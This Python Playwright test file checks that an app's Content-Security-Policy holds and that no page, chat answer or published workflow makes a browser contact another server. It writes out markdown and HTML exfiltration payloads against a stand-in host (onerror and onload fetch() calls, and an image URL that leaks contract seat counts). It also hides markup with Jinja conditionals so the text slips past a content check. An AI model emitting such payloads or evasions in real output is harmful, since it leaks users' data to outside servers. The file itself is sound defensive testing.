"""No page needs what its Content-Security-Policy refuses, and no text makes a browser ask another server."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from urllib.parse import urlsplit
from uuid import UUID, uuid4

import psycopg
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from lib import local
from lib.server.page_urls import PagePath
from tests.database.factories import publish_workflow
from tests.e2e.conftest import wait_until_idle
from tests.e2e.test_chat import open_chat, say, shows
from tests.e2e.test_documents import download, open_renewal
from tests.e2e.test_navigation import open_dialog, open_run, open_run_of_team
from tests.support.model_server import ModelServer, ScriptedReply
from tests.support.server import AppServer

REPORT_VIOLATIONS = """addEventListener('securitypolicyviolation', (event) =>
  window.reportViolation(`${event.effectiveDirective} refused ${event.blockedURI} on ${location.pathname}`))"""

EVIL = "http://127.0.0.2:9/evil"
ATTACK = f"""
![]( {EVIL}/image.png?arr=284,400 ) ![a][b] <img src="{EVIL}/tag.png"> <script src="{EVIL}/script.js"></script>
<svg onload="fetch('{EVIL}/svg')"> <style>@import url({EVIL}/style.css)</style> :material/image: [a]({EVIL}/link)
<iframe src="{EVIL}/frame"></iframe> <link rel="prefetch" href="{EVIL}/prefetch"> <img/src=x onerror=fetch('{EVIL}/x')>

[b]: {EVIL}/reference.png

| a | b |
| --- | --- |
| ![]({EVIL}/cell.png) | <td background="{EVIL}/background.png"> |

$\\\\includegraphics{{{EVIL}/katex.png}}$
"""


@dataclass
class Watched:
    """What the browsers of a test asked for, and what their pages were refused."""

    own_origin: str
    violations: list[str] = field(default_factory=list)
    foreign_requests: list[str] = field(default_factory=list)

    def watch(self, context: BrowserContext) -> None:
        context.expose_binding("reportViolation", lambda _, text: self.violations.append(text))
        context.add_init_script(REPORT_VIOLATIONS)
        context.on("request", lambda request: self.note_request(request.url))
        context.on("page", lambda page: page.on("websocket", lambda socket: self.note_request(socket.url)))

    def note_request(self, url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme in ("http", "https", "ws", "wss") and parts.netloc != urlsplit(self.own_origin).netloc:
            self.foreign_requests.append(url)


@pytest.fixture
def watched(demo: AppServer) -> Iterator[Watched]:
    seen = Watched(demo.url)
    yield seen
    assert seen.violations == []
    assert seen.foreign_requests == []


@pytest.fixture
def sign_in_watched(sign_in: Callable[..., Page], watched: Watched) -> Callable[..., Page]:
    """`sign_in`, watched from the first request on."""
    return partial(sign_in, watch=watched.watch)


@pytest.mark.parametrize(("name", "phone", "dark"), [("alice", False, False), ("carol", True, True)])
def test_no_page_needs_what_its_policy_refuses(
    sign_in_watched: Callable[..., Page], name: str, phone: bool, dark: bool
) -> None:
    page = sign_in_watched(name, phone=phone, dark=dark)
    for address in (*PagePath, "nowhere"):
        answer = page.goto(f"/{address}")
        assert answer
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
        if address != "nowhere":
            wait_until_idle(page)
    if name == "carol":
        open_run_of_team(page)
    else:
        page.goto("/")
        wait_until_idle(page)
        open_run(page)
    steps = page.locator(".st-key-run-steps [role=radio]")
    for number in range(steps.count()):
        steps.nth(number).click()
        wait_until_idle(page)
    open_dialog(page, "Snooze")
    page.keyboard.press("Escape")


def test_downloads_need_nothing_that_is_refused(sign_in_watched: Callable[..., Page]) -> None:
    page = sign_in_watched("alice")
    run = open_renewal(page)
    assert download(page, "Download spreadsheet").startswith(b"PK")
    page.goto(f"/run?execution={run}&slide=pricing-strategy")
    wait_until_idle(page)
    assert page.locator("[data-testid=stPlotlyChart] .main-svg").first.is_visible()


def test_the_pages_of_sign_in_need_nothing_that_is_refused(demo: AppServer, browser: Browser, watched: Watched) -> None:
    context = browser.new_context(base_url=demo.url)
    watched.watch(context)
    page = context.new_page()
    for address in ("/auth/sign-in", "/auth/join", "/auth/forgot", "/auth/reset", "/auth/sign-out", "/auth/nowhere"):
        answer = page.goto(address)
        assert answer
        assert "default-src 'none'" in answer.headers["content-security-policy"]
    context.close()


def test_a_chat_answer_makes_no_request_to_another_server(
    sign_in_watched: Callable[..., Page], model: ModelServer, watched: Watched
) -> None:
    page = sign_in_watched("alice")
    open_chat(page)
    model.reset()
    model.script(ScriptedReply(f"{ATTACK}\n\nThat was all.", pieces=9))
    say(page, f"What now? {ATTACK}")
    shows(page, "That was all.")
    page.reload()
    shows(page, "That was all.")
    wait_until_idle(page)
    assert watched.foreign_requests == []


def hide_markup(text: str) -> str:
    """`text` with an arm that is never shown inside all that makes markup: as a whole it is none."""
    for markup in ("](", "]:", "![", "://", "<i", "<s"):
        text = text.replace(markup, markup[0] + "{% if 1 > 2 %}x{% endif %}" + markup[1:])
    return text


@pytest.fixture
def published_attack(demo_folder: Path) -> str:
    """A published workflow whose texts pass the check and become markup when filled in; the address of its peek."""
    stack = local.find_running_stack(folder=demo_folder)
    assert stack
    attack = hide_markup(f"Read this. ![arr]({EVIL}/a.png?arr={{{{ contract.seats }}}}) {ATTACK}")
    with psycopg.connect(stack.database_url, autocommit=True) as sql:
        company, customer = sql.execute(
            "select company_id, id from public.customers where name = 'Fennimore Logistics'"
        ).fetchone() or ("", "")
        short = hide_markup(f"![]({EVIL}/t.png)")
        slide = {
            "title": short,
            "lead": attack,
            "checklist": [short, hide_markup(f"<img src={EVIL}/c.png>")],
            "question": short,
        }
        contexts = {"greeting": slide, "summary": slide}
        name = f"attack-{uuid4().hex[:8]}"
        publish_workflow(sql, UUID(str(company)), name, slides=list(contexts), slide_contexts=contexts)
    return f"/run?workflow={name}&customer={customer}"


def test_a_published_text_makes_no_request_to_another_server(
    sign_in_watched: Callable[..., Page], published_attack: str, watched: Watched
) -> None:
    page = sign_in_watched("alice")
    page.goto(published_attack)
    expect(page.get_by_text("Read this.").first).to_be_visible()
    wait_until_idle(page)
    page.goto("/workflows")
    wait_until_idle(page)
    assert watched.foreign_requests == []
